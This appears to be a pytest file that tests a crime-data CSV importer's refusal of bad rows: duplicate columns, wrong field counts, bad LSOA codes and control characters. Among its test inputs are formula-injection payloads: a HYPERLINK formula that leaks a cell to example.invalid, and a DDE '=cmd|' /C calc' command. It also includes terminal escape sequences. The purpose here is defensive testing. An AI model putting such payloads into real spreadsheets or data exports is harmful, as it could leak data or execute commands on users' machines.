"""Bad input that used to land silently is refused with file, line and problem, and the store
is left exactly as it was (issue 12, findings 8 and 10): duplicated columns, rows with too many
fields, malformed numbers, LSOA codes that are not E0/W0 + 7 digits, names a spreadsheet would
run as formulas, and control characters, which are named. Real police.uk files still import."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest
from conftest import dump, policeuk

KETTERING = Path(__file__).resolve().parents[1] / "data" / "seed" / "kettering.toml"
GOOD = "2021-04-leicestershire-street.csv"  # LF, 161 rows; line 120 is one whole row
FORCE, LSOA_CODE, LSOA_NAME, CRIME_TYPE = 3, 7, 8, 9  # column positions in a street-level row
NOTHING = "Nothing was imported: the store is unchanged."


@pytest.fixture
def before(cspbot, fixtures: Path, db_path: Path) -> dict[str, list[tuple]]:  # type: ignore[no-untyped-def,type-arg]
    """A store holding the Kettering partnership and the April 2021 police.uk file, dumped."""
    for args in (("partnership", "load", KETTERING), ("ingest", "police-uk", fixtures / GOOD)):
        result = cspbot(*args)
        assert result.exit_code == 0, result.output
    return dump(db_path)


def refused(cspbot, db_path: Path, before: dict, *args: object) -> str:  # type: ignore[no-untyped-def,type-arg]
    """Run a command that must be refused: exit 1, no apology, the store unchanged."""
    result = cspbot(*args)
    assert result.exit_code == 1, result.output
    assert result.output.startswith("Error: "), result.output
    assert "Traceback" not in result.output and "something went wrong" not in result.output
    assert result.output.rstrip().endswith(NOTHING)
    assert dump(db_path) == before
    return str(result.output)


def edited(source: Path, target: Path, line: int, edit: Callable[[list[str]], list[str]]) -> Path:
    """`source` copied to `target` with the row on `line` (1 = header) edited, as csv writes."""
    lines = source.read_text(encoding="utf-8").splitlines(keepends=True)
    [fields] = list(csv.reader([lines[line - 1]]))
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(edit(fields))
    lines[line - 1] = out.getvalue()
    target.write_text("".join(lines), encoding="utf-8")
    return target


def setting(column: int, value: str) -> Callable[[list[str]], list[str]]:
    return lambda fields: [value if i == column else f for i, f in enumerate(fields)]


# --- police.uk ----------------------------------------------------------------------------------

def test_a_duplicated_crime_type_column_is_refused(cspbot, fixtures, tmp_path, db_path, before):
    lines = (fixtures / GOOD).read_text(encoding="utf-8").splitlines()
    doubled = [lines[0] + ",Crime type"] + [line + ",Other theft" for line in lines[1:]]
    bad = tmp_path / GOOD
    bad.write_text("\n".join(doubled) + "\n", encoding="utf-8")
    output = refused(cspbot, db_path, before, "ingest", "police-uk", bad)
    assert output.startswith(f"Error: {bad}, line 1: the header names the column 'Crime type' "
                             "twice (columns 10 and 13).")


HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Kettering") 001A'


@pytest.mark.parametrize(("edit", "words"), [
    (lambda fields: [*fields, ""], "this row has 13 fields, but the header has 12."),
    (lambda fields: [*fields, "x", "y"], "this row has 14 fields, but the header has 12."),
    (setting(LSOA_CODE, "=1+1"), "LSOA code '=1+1' is not an LSOA code: codes are E0 or W0 "
                                 "followed by 7 digits"),
    (setting(LSOA_CODE, "E0102576"), "LSOA code 'E0102576' is not an LSOA code"),
    (setting(LSOA_CODE, "S01006506"), "LSOA code 'S01006506' is not an LSOA code"),
    (setting(LSOA_CODE, "e01025766"), "LSOA code 'e01025766' is not an LSOA code"),
    (setting(LSOA_NAME, HYPERLINK), f"LSOA name '{HYPERLINK}' starts with '=', which a "
                                    "spreadsheet would run as a formula"),
    (setting(LSOA_NAME, "@SUM(A1:A9) 001A"), "LSOA name '@SUM(A1:A9) 001A' starts with '@'"),
    (setting(LSOA_NAME, "+Charnwood 021E"), "LSOA name '+Charnwood 021E' starts with '+'"),
    (setting(LSOA_NAME, "-2+3 001A"), "LSOA name '-2+3 001A' starts with '-'"),
    (setting(LSOA_NAME, ""), "LSOA E01013806 has no LSOA name, which says its local "
                           "authority."),
    (setting(FORCE, "=cmd|' /C calc'!A0"), "Falls within '=cmd|' /C calc'!A0' starts with '='"),
    (setting(CRIME_TYPE, "Burglary\x00"), "Crime type 'Burglary\\x00' contains a NUL character "
                                          "(\\x00) at character 9."),
    (setting(LSOA_NAME, "Charnwood\x1b[8m 021E"), "LSOA name 'Charnwood\\x1b[8m 021E' contains "
                                                   "an escape character (\\x1b) at character 10."),
    (setting(LSOA_CODE, "E0102\u200b5766"), "LSOA code 'E0102\\u200b5766' contains an invisible "
                                            "formatting character (\\u200b) at character 6."),
    (setting(FORCE, "Leicestershire\tPolice"), "Falls within 'Leicestershire\\tPolice' "
                                               "contains a tab (\\t) at character 15."),
], ids=["13-fields", "14-fields", "code-formula", "code-short", "code-scottish", "code-lower",
        "name-hyperlink", "name-at", "name-plus", "name-minus", "name-empty", "force-formula",
        "crime-type-nul", "name-escape", "code-zero-width-space", "force-tab"])
def test_a_bad_row_is_refused_naming_line_and_problem(cspbot, fixtures, tmp_path, db_path,
                                                      before, edit, words):
    bad = edited(fixtures / GOOD, tmp_path / "2021-04-leicestershire-street.csv", 120, edit)
    output = refused(cspbot, db_path, before, "ingest", "police-uk", bad)
    assert output.startswith(f"Error: {bad}, line 120: {words}"), output
    assert "Did you mean" not in output


def test_a_nul_in_a_crime_type_is_named_not_suggested(cspbot, fixtures, tmp_path, db_path,
                                                     before):
    """The finding: "unknown crime type 'Burglary'. Did you mean 'Burglary'?" (the NUL unseen)."""
    bad = edited(fixtures / GOOD, tmp_path / GOOD, 58, setting(CRIME_TYPE, "Burg\x00lary"))
    output = refused(cspbot, db_path, before, "ingest", "police-uk", bad)
    assert "\x00" not in output
    assert f"{bad}, line 58: Crime type 'Burg\\x00lary' contains a NUL character (\\x00) at " \
           "character 5." in output


REAL = [("leicestershire", 0), ("leicestershire", -1), ("northamptonshire", 0),
        ("northamptonshire", -1), ("lancashire", -1), ("city-of-london", 0),
        ("west-yorkshire", 0), ("_vintages/leicestershire-2022-07", 0)]


@pytest.mark.parametrize(("folder", "which"), REAL, ids=[f"{f}[{w}]" for f, w in REAL])
def test_real_police_uk_files_still_import(cspbot, folder: str, which: int) -> None:
    path = sorted(policeuk(folder).glob("*-street.csv.gz"))[which]
    result = cspbot("ingest", "police-uk", path, "--json")
    assert result.exit_code == 0, result.output
    totals = json.loads(result.stdout)["totals"]
    assert totals["rows_read"] > 100 and totals["rows_placed"] > 0


def test_real_btp_file_with_blank_crime_ids_still_imports(cspbot) -> None:
    path = policeuk("_format-variants", "2024-01-btp-street.csv.gz")
    result = cspbot("ingest", "police-uk", path, "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["totals"]["rows_read"] > 1000


# --- the partnership's own CSV files ------------------------------------------------------------

VALUES = "month,indicator,area,value\n2009-01,domestic-burglary,kettering,30\n"
ROW = "2009-02,domestic-burglary,kettering,"

BAD = {
    "value-twice": ("values", "month,indicator,area,value,value\n" + ROW + "3,4\n", 1,
                    "the header names the column 'value' twice (columns 4 and 5)."),
    "area-twice": ("values", "month,indicator,area,area,value\n2009-02,domestic-burglary,"
                   "kettering,town-centre,3\n", 1,
                   "the header names the column 'area' twice (columns 3 and 4)."),
    "extra-column": ("values", "month,indicator,area,value,notes\n" + ROW + "3,checked\n", 1,
                     "the header has columns that a values file does not take: 'notes'."),
    "unnamed-column": ("values", "month,indicator,area,value,\n" + ROW + "3,\n", 1,
                       "the header has columns that a values file does not take: an unnamed "
                       "column (5)."),
    "header-nul": ("values", "month,indicator,area,val\x00ue\n" + ROW + "3\n", 1,
                   "the header's column 4, 'val\\x00ue', contains a NUL character (\\x00) at "
                   "character 4."),
    "row-too-long": ("values", "month,indicator,area,value\n" + ROW + "3,4\n", 2,
                     "this row has 5 fields, but the header has 4."),
    "row-too-short": ("values", "month,indicator,area,value\n2009-02,domestic-burglary,3\n", 2,
                      "this row has 3 fields, but the header has 4."),
    "commas-anywhere": ("values", "month,indicator,area,value\n" + ROW + '"1,2,3"\n', 2,
                        "value '1,2,3' is not a number."),
    "underscore": ("values", "month,indicator,area,value\n" + ROW + "1_000\n", 2,
                   "value '1_000' is not a number."),
    "exponent": ("values", "month,indicator,area,value\n" + ROW + "1e3\n", 2,
                 "value '1e3' is not a number."),
    "arabic-digits": ("values", "month,indicator,area,value\n" + ROW + "\u0663\n", 2,
                      "value '\u0663' is not a number."),
    "population-underscore": ("population", "area,financial_year,population\nkettering,"
                              "2009/10,90_000\n", 2, "population '90_000' is not a whole "
                                                     "number."),
    "base-n-underscore": ("survey", "indicator,area,wave,fieldwork_end,percent,weighted_count,"
                          "base_n,design_effect\nasb-perception,kettering,2008,2008-12,22.5,,"
                          "1_100,\n", 2, "base_n '1_100' is not a whole number."),
    "indicator-nul": ("values", "month,indicator,area,value\n2009-02,domestic-burglary\x00,"
                      "kettering,3\n", 2, "indicator 'domestic-burglary\\x00' contains a NUL "
                                          "character (\\x00) at character 18."),
    "wave-escape": ("survey", "indicator,area,wave,fieldwork_end,percent,weighted_count,base_n,"
                    "design_effect\nasb-perception,kettering,2008\x1b[2J,2008-12,22.5,,1100,\n",
                    2, "wave '2008\\x1b[2J' contains an escape character (\\x1b) at character 5."),
}


@pytest.mark.parametrize(("kind", "text", "line", "words"), BAD.values(), ids=BAD.keys())
def test_a_bad_partnership_csv_is_refused(cspbot, tmp_path, db_path, before, kind, text, line,
                                          words):
    path = tmp_path / f"{kind}.csv"
    path.write_text(text, encoding="utf-8")
    output = refused(cspbot, db_path, before, "ingest", kind, path, "--partnership", "kettering")
    assert output.startswith(f"Error: {path}, line {line}: {words}"), output


def test_extra_columns_are_refused_with_the_expected_header(cspbot, tmp_path, db_path, before):
    path = tmp_path / "survey.csv"
    path.write_text("indicator,area,wave,fieldwork_end,percent,weighted_count,base_n,"
                    "design_effect,comment\nasb-perception,kettering,2008,2008-12,22.5,,1100,,"
                    "ok\n", encoding="utf-8")
    output = refused(cspbot, db_path, before, "ingest", "survey", path, "-p", "kettering")
    assert "'comment'" in output
    assert ("The header should be: indicator,area,wave,fieldwork_end,percent,weighted_count,"
            "base_n,design_effect (remove the other columns).") in output


def test_numbers_with_thousands_separators_land(cspbot, tmp_path, db_path, before):
    values = tmp_path / "values.csv"
    values.write_text(VALUES + ROW + '"1,234.5"\n', encoding="utf-8")
    population = tmp_path / "population.csv"
    population.write_text('area,financial_year,population\nkettering,2009/10,"91,000"\n'
                          "town-centre,2009/10,8000\n", encoding="utf-8")
    for kind, path in (("values", values), ("population", population)):
        result = cspbot("ingest", kind, path, "-p", "kettering")
        assert result.exit_code == 0, result.output
    with closing(sqlite3.connect(db_path)) as conn:
        assert conn.execute("SELECT value FROM monthly_values WHERE month = '2009-02'"
                            ).fetchall() == [(1234.5,)]
        assert conn.execute("SELECT area, population FROM population ORDER BY area"
                            ).fetchall() == [("kettering", 91000), ("town-centre", 8000)]
